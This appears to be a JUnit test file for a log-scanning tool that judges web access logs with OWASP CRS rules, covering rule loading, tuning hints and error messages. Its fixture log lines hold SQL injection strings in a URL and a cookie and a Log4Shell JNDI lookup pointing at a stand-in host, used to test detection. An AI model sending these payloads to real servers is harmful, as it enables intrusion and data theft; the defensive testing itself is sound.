package org.evident.cli;

import static org.assertj.core.api.Assertions.assertThat;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.evident.detect.RuleFile;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** The OWASP CRS beside Evident's rules: CRS 4 from ../shared, CRS 3.3 where Debian puts it. */
class CrsRulesTest {
  static final String CRS4 = "crs:../../shared/crs";
  static final String LINES = """
      198.51.100.7 - - [03/Feb/2013:10:00:00 +0000] "GET /item?id=1%27%20union%20select%20password%20from%20users-- HTTP/1.1" 200 10 "-" "Mozilla/5.0"
      198.51.100.8 - - [03/Feb/2013:10:00:01 +0000] "GET /products?page=2&sort=price HTTP/1.1" 200 10 "-" "Mozilla/5.0 (Windows NT 10.0; Win64; x64)"
      198.51.100.9 - - [03/Feb/2013:10:00:02 +0000] "GET /search?q=select+a+shoe+for+O%27Brien HTTP/1.1" 200 10 "-" "Mozilla/5.0"
      """;

  @TempDir
  static Path dir;
  static Path log;

  @BeforeAll
  static void write() throws Exception {
    log = dir.resolve("crs.log");
    Files.writeString(log, LINES);
  }

  @Test
  void crs4RunsBesideEvidentAndSaysWhatItLeftOut() throws Exception {
    Cli.Result e = Cli.run("explain", "--rules", "evident," + CRS4, "--format", "jsonl",
        log.toString());
    assertThat(e.code()).as(e.err()).isZero();
    String[] lines = e.out().split("\n");
    assertThat(lines[0]).contains("\"attack\":true", "\"942");
    assertThat(lines[1]).contains("\"attack\":false");
    assertThat(lines[2]).contains("\"attack\":false");
    Cli.Result s = Cli.run("scan", "--no-geo", "--db", dir.resolve("c.duckdb").toString(),
        "--rules", "evident," + CRS4, log.toString());
    assertThat(s.code()).as(s.err()).isZero();
    assertThat(s.out()).contains("1 attack request (");
    assertThat(s.err()).contains("crs 4.28.0", "CRS rules run on logs",
        "flow control or scoring", "needs what a log does not hold");
    Path rules = Path.of("../../shared/crs/rules").toAbsolutePath().normalize();
    long conf;
    try (java.util.stream.Stream<Path> files = Files.list(rules)) {
      conf = files.filter(f -> f.toString().endsWith(".conf")).count();
    }
    assertThat(s.err()).contains("  SecLang rules read from " + rules + " (" + conf + " files)\n");
    Cli.Result r = Cli.run("report", "--db", dir.resolve("c.duckdb").toString(), "--format",
        "json");
    assertThat(r.out()).contains("crs 4.28.0");
  }

  /**
   * A scan that counted attacks with CRS and nothing of the site's own says that CRS flags
   * benign free text too, and how to tune it; not with the site's own file loaded, not without
   * CRS, not with {@code -q}.
   */
  @Test
  void anUntunedCrsScanSaysHowToTuneIt() throws Exception {
    // the tune command as the user calls Evident (here, without the launcher: the jar)
    String hint = "CRS flags benign free text too (a search box's words); 'java -jar evident.jar"
        + " tune --rules evident," + CRS4 + " LOG -o tuned.yaml' proposes allow entries for it:"
        + " review them, then scan with --rules evident," + CRS4 + ",tuned.yaml";
    Cli.Result crs = Cli.run("scan", "--no-geo", "--db", dir.resolve("t1.duckdb").toString(),
        "--rules", "evident," + CRS4, log.toString());
    assertThat(crs.err()).contains("  " + hint + "\n");
    Path own = dir.resolve("tuned.yaml");
    Files.writeString(own, "version: '1'\nrules: []\n");
    Cli.Result tuned = Cli.run("scan", "--no-geo", "--db", dir.resolve("t2.duckdb").toString(),
        "--rules", "evident," + CRS4 + "," + own, log.toString());
    assertThat(tuned.code()).as(tuned.err()).isZero();
    assertThat(tuned.err()).contains("CRS rules run on logs").doesNotContain("flags benign");
    Cli.Result quiet = Cli.run("scan", "-q", "--no-geo", "--db",
        dir.resolve("t3.duckdb").toString(), "--rules", "evident," + CRS4, log.toString());
    Cli.Result builtIn = Cli.run("scan", "--no-geo", "--db", dir.resolve("t4.duckdb").toString(),
        log.toString());
    assertThat(quiet.err() + builtIn.err()).doesNotContain("flags benign");
  }

  /**
   * A site's log that holds the Cookie and Accept headers: a scan judges them with Evident's
   * rules and CRS's, and explain says where each match was found and after which of the rule's
   * transformations (CRS's cookie rules read cookies as sent, not decoded as arguments are).
   */
  @Test
  void cookiesAndOtherHeadersALogHoldsAreJudged() throws Exception {
    String format = "apache:%h %l %u %t \"%r\" %>s %b \"%{Referer}i\" \"%{User-Agent}i\""
        + " \"%{Cookie}i\" \"%{Accept}i\"";
    Path site = dir.resolve("site.log");
    Files.writeString(site, String.join("\n",
        "203.0.113.5 - - [10/Feb/2013:10:00:00 +0000] \"GET /account HTTP/1.1\" 200 5 \"-\""
            + " \"Mozilla/5.0\" \"session=abc; pref=1' UNION SELECT password FROM users--\""
            + " \"text/html\"",
        "203.0.113.6 - - [10/Feb/2013:10:00:01 +0000] \"GET /account HTTP/1.1\" 200 5 \"-\""
            + " \"Mozilla/5.0\" \"session=abc; _ga=GA1.2.3\" \"text/html\"",
        "203.0.113.7 - - [10/Feb/2013:10:00:02 +0000] \"GET / HTTP/1.1\" 200 5 \"-\""
            + " \"Mozilla/5.0\" \"-\" \"${jndi:ldap://x.example/a}\"", ""));
    Cli.Result s = Cli.run("scan", "--no-geo", "--db", dir.resolve("h.duckdb").toString(),
        "--format", format, "--rules", "evident," + CRS4, site.toString());
    assertThat(s.code()).as(s.err()).isZero();
    assertThat(s.out()).contains("2 attack requests");
    Cli.Result ev = Cli.run("events", "--db", dir.resolve("h.duckdb").toString(), "--format",
        "csv");
    assertThat(ev.out().split("\n")).hasSize(3);
    assertThat(ev.out()).contains(",sqli,", ",log4shell,");
    Cli.Result e = Cli.run("explain", "--rules", "evident," + CRS4, "--log-format", format,
        site.toString());
    assertThat(e.code()).as(e.err()).isZero();
    assertThat(e.out()).contains("942100  critical (+5)  sqli  in request_cookies:pref after"
        + " none:", "EV-944150  critical (+5)  log4shell  in request_headers:accept",
        "line 2: clean");
  }

  /**
   * A free-text entry excuses all of CRS in a field on the understanding that Evident's rules
   * judge it still: a scan that loads it without them says that attacks there are not counted.
   */
  @Test
  void aFreeTextEntryWithoutEvidentsRulesIsSaid() throws Exception {
    Path tuned = dir.resolve("free-text.yaml");
    Files.writeString(tuned, """
        pack: tuned
        version: "1"
        allow:
          - tag: 'OWASP_CRS'
            path: '^/search$'
            arg: 'q'
        """);
    String note = "free-text.yaml, allow entry 1 excuses every CRS rule in q, and no other"
        + " rules judge query arguments";
    Cli.Result alone = Cli.run("scan", "--no-geo", "--db", dir.resolve("f1.duckdb").toString(),
        "--rules", CRS4 + "," + tuned, log.toString());
    assertThat(alone.code()).as(alone.err()).isZero();
    assertThat(alone.err()).contains(note).as("CRS's exceptions for Apache's own requests")
        .doesNotContain("REQUEST-905");
    // a file of many such entries (CRS's application packages) shares one line
    Files.writeString(tuned, "allow:\n" + java.util.stream.IntStream.range(0, 7)
        .mapToObj(i -> "  - {tag: OWASP_CRS, arg: f" + i + "}\n").collect(
            java.util.stream.Collectors.joining()));
    Cli.Result many = Cli.run("scan", "--no-geo", "--db", dir.resolve("f3.duckdb").toString(),
        "--rules", CRS4 + "," + tuned, log.toString());
    assertThat(many.code()).as(many.err()).isZero();
    assertThat(many.err()).contains("free-text.yaml: 7 entries excuse every CRS rule in f0, f1,"
        + " f2, f3, f4 and 2 more, and no other rules judge").doesNotContain("allow entry 1 ");
    Cli.Result beside = Cli.run("scan", "--no-geo", "--db", dir.resolve("f2.duckdb").toString(),
        "--rules", "evident," + CRS4 + "," + tuned, log.toString());
    assertThat(beside.code()).as(beside.err()).isZero();
    assertThat(beside.err()).doesNotContain("excuses every CRS rule");
  }

  @Test
  void theDistributionsCrsLoadsWithPlainCrs() {
    assumeTrue(Files.isDirectory(Path.of("/usr/share/modsecurity-crs/rules")),
        "Debian's modsecurity-crs is not installed (.ci/run installs it)");
    Cli.Result e = Cli.run("explain", "--rules", "crs", "--format", "jsonl", log.toString());
    assertThat(e.code()).as(e.err()).isZero();
    String[] lines = e.out().split("\n");
    assertThat(lines[0]).contains("\"attack\":true", "\"942");
    // CRS 3.3's DoS and parameter counters (912150, 921170) score nothing: an ordinary page
    // with arguments scores 0, not the 4 they would add to every request
    assertThat(lines[1]).contains("\"attack\":false", "\"score\":0,")
        .doesNotContain("912150", "921170");
    Cli.Result s = Cli.run("scan", "--no-geo", "--db", dir.resolve("d.duckdb").toString(),
        "--rules", "crs", log.toString());
    assertThat(s.code()).as(s.err()).isZero();
    // and its rules that spell normalisePath the British way run
    assertThat(s.err()).contains("crs 3.3", "counts for other rules, scores nothing")
        .doesNotContain("normalisePath");
  }

  /**
   * A CRS folder's crs-setup.conf is the site's CRS configuration: its anomaly threshold counts
   * (the release's crs-setup.conf.example, a template, is not read).
   */
  @Test
  void aCrsFoldersSetupSetsTheThreshold() throws Exception {
    Path site = dir.resolve("site-crs");
    Files.createDirectories(site);
    Files.createSymbolicLink(site.resolve("rules"),
        Path.of("../../shared/crs/rules").toAbsolutePath());
    Files.writeString(site.resolve("crs-setup.conf"), "SecAction \"id:900110,phase:1,pass,"
        + "nolog,setvar:tx.inbound_anomaly_score_threshold=100\"\n");
    Cli.Result e = Cli.run("explain", "--rules", "crs:" + site, "--format", "jsonl",
        log.toString());
    assertThat(e.code()).as(e.err()).isZero();
    assertThat(e.out().split("\n")[0]).contains("\"attack\":false", "\"threshold\":100",
        "\"942");
  }

  /**
   * A CRS 4 folder's plugins load around the rules, as CRS's install guide orders them:
   * {@code *-config.conf} and {@code *-before.conf} before, {@code *-after.conf} after, their
   * word lists with them. A plugin that takes a rule out (an application's exclusions) takes it
   * out of Evident's judging too.
   */
  @Test
  void aCrsFoldersPluginsLoadAroundItsRules() throws Exception {
    Path site = dir.resolve("crs-with-plugins");
    Files.createDirectories(site.resolve("plugins"));
    Files.createSymbolicLink(site.resolve("rules"),
        Path.of("../../shared/crs/rules").toAbsolutePath());
    Files.writeString(site.resolve("crs-setup.conf"), "# the site's settings\n");
    Files.writeString(site.resolve("plugins/shop-config.conf"), "# settings\n");
    // as ModSecurity reads them: a runtime exclusion before the rules, a removal after them
    Files.writeString(site.resolve("plugins/shop-before.conf"), "SecAction \"id:9500010,"
        + "phase:1,pass,nolog,ctl:ruleRemoveById=942190\"\n");
    Files.writeString(site.resolve("plugins/shop-after.conf"), "SecRuleRemoveById 942100\n");
    Files.writeString(site.resolve("plugins/shop-words.data"), "word\n");
    Files.writeString(site.resolve("plugins/README.md"), "not a rule file\n");
    List<String> names = RuleSources.crs(site).stream()
        .map(f -> Path.of(f.name()).getFileName().toString()).toList();
    assertThat(names.get(0)).isEqualTo("crs-setup.conf");
    assertThat(names.subList(1, 3)).containsExactly("shop-config.conf", "shop-before.conf");
    assertThat(names.get(3)).startsWith("REQUEST-9");
    assertThat(names.subList(names.size() - 2, names.size()))
        .containsExactly("shop-after.conf", "shop-words.data");
    assertThat(names).doesNotContain("README.md");
    Cli.Result plain = Cli.run("explain", "--rules", CRS4, "--format", "jsonl", log.toString());
    Cli.Result plugged = Cli.run("explain", "--rules", "crs:" + site, "--format", "jsonl",
        log.toString());
    assertThat(plugged.code()).as(plugged.err()).isZero();
    assertThat(ruleIds(plain.out(), "matches")).contains("942100", "942190");
    assertThat(ruleIds(plugged.out(), "matches")).doesNotContain("942100", "942190")
        .contains("942270");
    assertThat(ruleIds(plugged.out(), "excused")).containsExactly("942190");
  }

  /** The rule ids of the first line's {@code field} (matches or excused) in explain's jsonl. */
  private static List<String> ruleIds(String jsonl, String field) throws Exception {
    List<String> ids = new java.util.ArrayList<>();
    new com.fasterxml.jackson.databind.ObjectMapper().readTree(jsonl.split("\n")[0]).get(field)
        .forEach(m -> ids.add(m.get("rule").asText()));
    return ids;
  }

  /**
   * An installed CRS loads as its distribution's load file says (Debian's owasp-crs.load): the
   * site's exclusion files under /etc come with the rules, a file an {@code IncludeOptional}
   * names may be missing, and one an {@code Include} names may not.
   */
  @Test
  void anInstalledCrsLoadsAsItsLoadFileSays() throws Exception {
    Path share = Files.createDirectories(dir.resolve("usr/share/modsecurity-crs/rules"))
        .getParent();
    Path etc = Files.createDirectories(dir.resolve("etc/modsecurity/crs"));
    Files.writeString(share.resolve("rules/REQUEST-901-INITIALIZATION.conf"), "# init\n");
    Files.writeString(share.resolve("rules/REQUEST-942-APPLICATION-ATTACK-SQLI.conf"), "# 942\n");
    Files.writeString(share.resolve("rules/sql-errors.data"), "error\n");
    Files.writeString(etc.resolve("crs-setup.conf"), "# setup\n");
    Files.writeString(etc.resolve("REQUEST-900-EXCLUSION-RULES-BEFORE-CRS.conf"), "# mine\n");
    Files.writeString(share.resolve("owasp-crs.load"), String.join("\n",
        "## loads the CRS", "Include " + etc.resolve("crs-setup.conf"),
        "IncludeOptional " + etc.resolve("REQUEST-900-EXCLUSION-RULES-BEFORE-CRS.conf"),
        "Include rules/*.conf",
        "IncludeOptional " + etc.resolve("RESPONSE-999-EXCLUSION-RULES-AFTER-CRS.conf"), ""));
    List<String> names = RuleSources.byLoadFile(share.resolve("owasp-crs.load")).stream()
        .map(f -> Path.of(f.name()).getFileName().toString()).toList();
    assertThat(names).containsExactly("crs-setup.conf",
        "REQUEST-900-EXCLUSION-RULES-BEFORE-CRS.conf", "REQUEST-901-INITIALIZATION.conf",
        "REQUEST-942-APPLICATION-ATTACK-SQLI.conf", "sql-errors.data");
    Files.writeString(share.resolve("owasp-crs.load"), "Include /nowhere/crs-setup.conf\n"
        + "Include rules/*.conf\n");
    org.assertj.core.api.Assertions.assertThatThrownBy(
        () -> RuleSources.byLoadFile(share.resolve("owasp-crs.load")))
        .isInstanceOf(UserException.class)
        .hasMessage("no CRS file at /nowhere/crs-setup.conf, which " + share.resolve(
            "owasp-crs.load") + " includes");
  }

  /**
   * An installed CRS is read as its distribution has ModSecurity read it: Red Hat's activation
   * folder (links the site may remove, its exclusion files beside them, crs-setup.conf one
   * folder up), a container image's CRS release folder, Debian's folder without its load file
   * (crs-setup.conf from /etc); Debian's load file first of all.
   */
  @Test
  void anInstalledCrsIsReadWhereItsDistributionPutsIt() throws Exception {
    Path redHat = dir.resolve("red-hat");
    Path share = Files.createDirectories(redHat.resolve("usr/share/mod_modsecurity_crs/rules"));
    Path conf = Files.createDirectories(redHat.resolve("etc/httpd/modsecurity.d"));
    Path activated = Files.createDirectories(conf.resolve("activated_rules"));
    for (String f : List.of("REQUEST-901-INITIALIZATION.conf", "REQUEST-913-SCANNER.conf",
        "REQUEST-942-APPLICATION-ATTACK-SQLI.conf", "sql-errors.data")) {
      Files.writeString(share.resolve(f), "# " + f + "\n");
      if (!f.startsWith("REQUEST-913")) { // the site took 913 out
        Files.createSymbolicLink(activated.resolve(f), share.resolve(f));
      }
    }
    Files.writeString(conf.resolve("crs-setup.conf"), "# setup\n");
    Files.writeString(activated.resolve("REQUEST-900-EXCLUSION-RULES-BEFORE-CRS.conf"), "#\n");
    Files.writeString(activated.resolve("RESPONSE-999-EXCLUSION-RULES-AFTER-CRS.conf"), "#\n");
    assertThat(names(RuleSources.installed(redHat))).containsExactly("crs-setup.conf",
        "REQUEST-900-EXCLUSION-RULES-BEFORE-CRS.conf", "REQUEST-901-INITIALIZATION.conf",
        "REQUEST-942-APPLICATION-ATTACK-SQLI.conf", "RESPONSE-999-EXCLUSION-RULES-AFTER-CRS.conf",
        "sql-errors.data");

    Path container = dir.resolve("container");
    Path crs = Files.createDirectories(container.resolve("opt/owasp-crs/rules")).getParent();
    Files.createDirectories(crs.resolve("plugins"));
    Files.writeString(crs.resolve("crs-setup.conf"), "# setup\n");
    Files.writeString(crs.resolve("rules/REQUEST-901-INITIALIZATION.conf"), "# init\n");
    Files.writeString(crs.resolve("plugins/shop-before.conf"), "# before\n");
    assertThat(names(RuleSources.installed(container))).containsExactly("crs-setup.conf",
        "shop-before.conf", "REQUEST-901-INITIALIZATION.conf");

    Path debian = dir.resolve("debian");
    Path rules = Files.createDirectories(debian.resolve("usr/share/modsecurity-crs/rules"));
    Files.writeString(rules.resolve("REQUEST-901-INITIALIZATION.conf"), "# init\n");
    Files.createDirectories(debian.resolve("etc/modsecurity/crs"));
    Files.writeString(debian.resolve(RuleSources.DEBIAN_SETUP), "# setup\n");
    assertThat(RuleSources.installed(debian).stream().map(RuleFile::name).toList())
        .containsExactly(debian.resolve(RuleSources.DEBIAN_SETUP).toString(),
            rules.resolve("REQUEST-901-INITIALIZATION.conf").toString());
    // the load file, where there is one, says what loads; the container's folder waits
    Files.createDirectories(debian.resolve("opt/owasp-crs/rules"));
    Files.writeString(debian.resolve("usr/share/modsecurity-crs/owasp-crs.load"),
        "Include rules/*.conf\n");
    assertThat(names(RuleSources.installed(debian)))
        .containsExactly("REQUEST-901-INITIALIZATION.conf");

    // an activation folder of CRS 2 links only: the release folder beside it is the CRS
    Path old = dir.resolve("old-red-hat");
    Path oldActivated = Files.createDirectories(old.resolve(RuleSources.ACTIVATED));
    Files.writeString(oldActivated.resolve("modsecurity_crs_41_sql_injection_attacks.conf"), "#\n");
    Path release = Files.createDirectories(old.resolve("opt/owasp-crs/rules"));
    Files.writeString(release.resolve("REQUEST-901-INITIALIZATION.conf"), "# init\n");
    assertThat(names(RuleSources.installed(old)))
        .containsExactly("REQUEST-901-INITIALIZATION.conf");

    Path none = Files.createDirectories(dir.resolve("none/etc/modsecurity/crs"));
    org.assertj.core.api.Assertions.assertThatThrownBy(
        () -> RuleSources.installed(none.getParent().getParent().getParent()))
        .isInstanceOf(UserException.class)
        .hasMessageStartingWith("no OWASP CRS installed where distributions put it"
            + " (/usr/share/modsecurity-crs, /opt/owasp-crs,")
        .hasMessageEndingWith("or name a folder with --rules crs:DIR");
  }

  private static List<String> names(List<RuleFile> files) {
    return files.stream().map(f -> Path.of(f.name()).getFileName().toString()).toList();
  }

  /**
   * A folder that holds no CRS is told as such before any file in it is read: {@code crs:/tmp}
   * once answered with the decoder's "Input length = 1" for a binary {@code perf.data}.
   */
  @Test
  void aFolderWithoutCrsRulesIsOneSentence() throws Exception {
    Path other = Files.createDirectories(dir.resolve("not-crs"));
    Files.write(other.resolve("perf.data"), new byte[] {(byte) 0xff, (byte) 0xfe, 0, 1});
    Cli.Result e = Cli.run("explain", "--rules", "crs:" + other, log.toString());
    assertThat(e.code()).isEqualTo(1);
    assertThat(e.err().strip()).isEqualTo("evident: no CRS rule files (*.conf) in " + other);
  }

  /** A rule file that is not UTF-8 text is named, in one sentence. */
  @Test
  void aRuleFileThatIsNotTextIsOneSentence() throws Exception {
    Path binary = dir.resolve("binary.yaml");
    Files.write(binary, new byte[] {'a', ':', ' ', (byte) 0xc3, (byte) 0x28, '\n'});
    Cli.Result e = Cli.run("explain", "--rules", "evident," + binary, log.toString());
    assertThat(e.code()).isEqualTo(1);
    assertThat(e.err().strip())
        .isEqualTo("evident: cannot read rule file " + binary + ": it is not UTF-8 text");
  }

  @Test
  void aMissingCrsFolderIsOneSentence() {
    Cli.Result e = Cli.run("explain", "--rules", "crs:" + dir.resolve("nothing"), log.toString());
    assertThat(e.code()).isEqualTo(1);
    assertThat(e.err()).contains("no CRS rules folder at").doesNotContain("Exception");
  }
}
